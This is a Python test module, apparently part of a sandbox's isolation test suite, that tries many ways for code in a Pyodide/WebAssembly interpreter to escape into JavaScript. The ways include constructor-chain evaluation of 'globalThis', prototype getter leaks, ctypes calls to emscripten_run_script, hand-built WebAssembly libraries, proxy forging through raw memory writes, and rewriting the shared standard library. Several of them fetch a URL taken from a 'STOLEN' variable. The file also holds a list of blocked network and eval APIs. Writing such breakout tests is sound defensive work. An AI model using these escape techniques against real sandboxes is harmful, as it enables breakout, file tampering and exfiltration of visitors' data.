"""Ways out of a process, as far as each leads: what a stranger's code would try."""

import ctypes
import json
import os
import urllib.request
from collections.abc import Callable

from pyodide.ffi import JsProxy, create_proxy, to_js

import _wasgi

URL = os.environ["STOLEN"]


def the_module_has_a_constructor() -> object:
    return _wasgi.constructor


def a_function_of_the_module_has_a_constructor() -> object:
    return _wasgi.wait.constructor


def a_function_of_the_module_leads_to_function() -> object:
    return _wasgi.wait.__proto__


def text_becomes_a_function() -> object:
    return to_js({}).constructor.constructor("return globalThis")()


def text_becomes_a_generator() -> object:
    return to_js([]).values.constructor("return globalThis")()


def _object() -> JsProxy:
    return to_js({}).constructor


def _define(target: JsProxy, name: str) -> list[object]:
    """Has a getter of ours called with who asks for ``name``."""
    leaked: list[object] = []
    descriptor = _object().new()
    descriptor.get = create_proxy(leaked.append, capture_this=True)
    descriptor.configurable = True
    _object().defineProperty(target, name, descriptor)
    return leaked


def _leaked_global() -> JsProxy:
    leaked = _define(_object().prototype, "devicePixelRatio")
    ctypes.PyDLL(None).emscripten_get_device_pixel_ratio()
    return leaked[0]


def a_getter_on_the_prototype_of_all() -> object:
    return _leaked_global()


def the_global_asks_the_host() -> object:
    """With the visitor's cookie; it waits for the answer, so that the host has seen it."""
    request = _leaked_global().XMLHttpRequest.new()
    request.open("GET", URL, False)
    request.send(None)
    return request.responseText


def a_prototype_is_changed() -> object:
    to_js([]).__proto__.push = create_proxy(print)
    return "a prototype was changed"


def errors_tell_of_their_stacks() -> object:
    _error().constructor.prepareStackTrace = create_proxy(lambda error, sites: sites)
    return "prepareStackTrace was set"


def _error() -> JsProxy:
    try:
        to_js([]).at.call.call(1)
    except Exception as error:
        return error.js_error
    raise AssertionError("it did not fail")


def c_runs_a_script() -> object:
    ctypes.PyDLL(None).emscripten_run_script(b"self.fetch('" + URL.encode() + b"')")
    return "emscripten_run_script ran"


def c_reaches_javascript_objects() -> object:
    return ctypes.PyDLL(None).hiwire_get


def c_fetches() -> object:
    return ctypes.PyDLL(None).emscripten_async_wget_data


SCRIPT = b"self.fetch('" + URL.encode() + b"')\0"


def _section(number: int, content: bytes) -> bytes:
    return bytes([number]) + _number(len(content)) + content


def _number(value: int) -> bytes:
    return bytes([value]) if value < 0x80 else bytes([value & 0x7F | 0x80]) + _number(value >> 7)


def _name(text: bytes) -> bytes:
    return bytes([len(text)]) + text


def _library(path: str, *sections: bytes, memory: int = 0) -> None:
    dylink = _section(0, _name(b"dylink.0") + b"\1" + _number(4) + bytes([memory, 0, 1, 0]))
    with open(path, "wb") as file:
        file.write(b"\0asm\1\0\0\0" + dylink + b"".join(sections))


_TYPES = _section(1, bytes([2, 0x60, 1, 0x7F, 0, 0x60, 0, 0]))
_RUN_SCRIPT = _name(b"env") + _name(b"emscripten_run_script") + bytes([0, 0])


def a_library_runs_a_script() -> object:
    """A library of ours that imports what runs JavaScript."""
    _library(
        "/tmp/library.so",
        _TYPES,
        _section(2, bytes([1]) + _RUN_SCRIPT),
        _section(7, bytes([1]) + _name(b"run") + bytes([0, 0])),
    )
    ctypes.PyDLL("/tmp/library.so").run(SCRIPT)
    return "a library ran a script"


def _change_a_library() -> None:
    """A fork loads the libraries of its parent again: this one is another by then."""
    path = "/tmp/changed.so"
    function = [_section(3, bytes([1, 1])), _section(7, bytes([1]) + _name(b"run") + bytes([0, 0]))]
    _library(path, _TYPES, *function, _section(10, bytes([1, 2, 0, 0x0B])))
    ctypes.PyDLL(path)
    imports = [
        _RUN_SCRIPT,
        _name(b"env") + _name(b"memory") + bytes([2, 0, 1]),
        _name(b"env") + _name(b"__memory_base") + bytes([3, 0x7F, 0]),
    ]
    _library(
        path,
        _TYPES,
        _section(2, bytes([len(imports)]) + b"".join(imports)),
        _section(3, bytes([1, 1])),
        _section(7, bytes([1]) + _name(b"run") + bytes([0, 1])),
        # It runs when it is loaded: the script is where its memory begins.
        _section(8, bytes([1])),
        _section(10, bytes([1, 6, 0, 0x23, 0, 0x10, 0, 0x0B])),
        _section(11, bytes([1, 0, 0x23, 0, 0x0B]) + _number(len(SCRIPT)) + SCRIPT),
        memory=len(SCRIPT),
    )


if "CHANGES_A_LIBRARY" in os.environ:
    _change_a_library()


def _forged() -> JsProxy:
    """Pyodide's own API: memory says which object a proxy stands for, and ctypes writes memory."""
    word = 9 * 4
    reference = ctypes.c_uint32.from_address(id(_wasgi) + word).value
    forged = to_js([])
    _kept.append(forged)
    # The entry before that of `_wasgi`, but for four: see docs/realm.md.
    ctypes.c_uint32.from_address(id(forged) + word).value = reference - 7 + 2
    return forged


_kept: list[JsProxy] = []


def pyodide_is_reached() -> object:
    """Whether forging still works, so that what follows is tested."""
    assert "_module" in dir(_forged()), "the layout of proxies has changed: adapt this test"
    raise NotImplementedError


def pyodide_fetches() -> object:
    _forged()._api.loadBinaryFile(URL)
    return "loadBinaryFile was called"


def pyodide_imports() -> object:
    return _forged()._api.loadScript(URL)


def a_timer_runs_text() -> object:
    _forged()._api.scheduleCallback(f"fetch('{URL}')", 5)
    return "text was scheduled"


def a_timer_tells_its_global() -> object:
    leaked: list[object] = []
    _forged()._api.scheduleCallback(create_proxy(leaked.append, capture_this=True), 5)
    import time

    time.sleep(0.05)
    if str(leaked[0]) != "undefined" and leaked[0] is not None:
        return leaked[0]
    raise ReferenceError("a timer has no `this`")


def pyodide_makes_another_interpreter() -> object:
    return _forged()._api.config.createPyodideModule


def shared_files_are_written() -> object:
    fs = _forged().FS
    node = fs.lookupPath("/lib/python314.zip").node
    node.contents.set(to_js(b"rewritten"))
    return "the standard library was rewritten"


def shared_files_are_caught_when_read() -> object:
    fs = _forged().FS
    node = fs.lookupPath("/lib/python314.zip").node
    caught: list[object] = []
    into = _object().new()
    into.set = create_proxy(lambda bytes, at: caught.append(bytes))
    node.stream_ops.read(None, into, 0, 16, 0)
    return caught[0]


#: What is no object's property anywhere once a realm is closed.
REMOVED = frozenset(
    [
        "fetch",
        "XMLHttpRequest",
        "WebSocket",
        "EventSource",
        "importScripts",
        "Worker",
        "SharedWorker",
        "BroadcastChannel",
        "MessageChannel",
        "MessagePort",
        "postMessage",
        "indexedDB",
        "caches",
        "location",
        "eval",
        "serviceWorker",
        "storage",
        "sendBeacon",
        "OffscreenCanvas",
        "onmessage",
        "addEventListener",
    ]
)


def what_python_holds_leads_to_the_language_alone() -> object:
    """A walk from all that Python is given, by properties and prototypes."""
    first = [_wasgi, _wasgi.wait, _wasgi.configuration(), to_js({}), to_js([[]]), to_js(b"")]
    language = _object()
    names, prototype_of = language.getOwnPropertyNames, language.getPrototypeOf
    descriptor_of, is_frozen = language.getOwnPropertyDescriptor, language.isFrozen
    seen = {one.js_id: one for one in first}
    pending, thawed = list(first), []
    while pending:
        one = pending.pop()
        own = [str(name) for name in names(one)]
        if reached := REMOVED.intersection(own):
            return f"{reached} of {one}"
        # What was made for this call is Python's to change.
        if one not in first and not is_frozen(one):
            thawed.append(str(one))
        found = [prototype_of(one)]
        for name in own:
            descriptor = descriptor_of(one, name)
            found += [getattr(descriptor, part, None) for part in ("value", "get", "set")]
        for other in found:
            if isinstance(other, JsProxy) and other.js_id not in seen:
                seen[other.js_id] = other
                pending.append(other)
    assert len(seen) > 100, f"the walk ended after {len(seen)} objects"
    raise LookupError(f"{len(seen)} objects, of which {len(thawed)} can be changed: {thawed}")


def urllib_fetches() -> object:
    return urllib.request.urlopen(URL, timeout=1)


def outcome(way: Callable[[], object]) -> str:
    """What a way leads to; "no: …" is nowhere."""
    try:
        return f"yes: {way()}"
    except BaseException as error:
        return f"no: {type(error).__name__}: {error}"


WAYS = {
    name: way
    for name, way in list(globals().items())
    if callable(way) and getattr(way, "__module__", "") == __name__ and "_" in name.strip("_")
    if not name.startswith("_")
}


def app(environ, start_response):
    """Answers with the ways there are, or with what one led to."""
    start_response("200 OK", [("Content-Type", "text/plain")])
    way = WAYS.get(environ["PATH_INFO"][1:])
    return [(outcome(way) if way else json.dumps(list(WAYS))).encode()]
